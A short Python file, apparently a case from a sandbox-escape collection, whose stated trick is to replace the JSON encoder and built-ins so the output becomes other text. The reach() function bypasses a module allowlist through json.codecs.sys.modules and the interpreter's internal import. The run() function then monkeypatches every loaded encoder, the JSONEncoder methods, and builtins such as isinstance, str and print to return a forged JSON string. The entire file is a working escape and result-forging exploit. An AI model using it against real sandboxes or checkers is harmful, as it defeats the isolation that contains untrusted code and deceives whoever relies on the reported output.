# trick: replace the JSON encoder and all built-ins it may use, so that the output is another text
# want: any
import json


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def run(ctx):
    builtins, sys = reach("builtins"), reach("sys")
    forged = '{"forged":true}'
    for module in list(sys.modules.values()):
        for name in ("dumps", "dump", "encode_basestring", "encode_basestring_ascii", "c_make_encoder", "_make_iterencode", "c_encode_basestring_ascii", "c_encode_basestring"):
            if hasattr(module, name) and type(module) is type(sys):
                setattr(module, name, lambda *a, **k: forged)
    for name in ("encode", "iterencode", "default"):
        setattr(json.JSONEncoder, name, lambda self, *a, **k: forged)
    for name in ("isinstance", "str", "type", "len", "repr", "bytes", "dict", "list", "getattr", "hasattr", "print", "Exception", "BaseException", "callable", "id"):
        setattr(builtins, name, lambda *a, **k: forged)
    return [1]
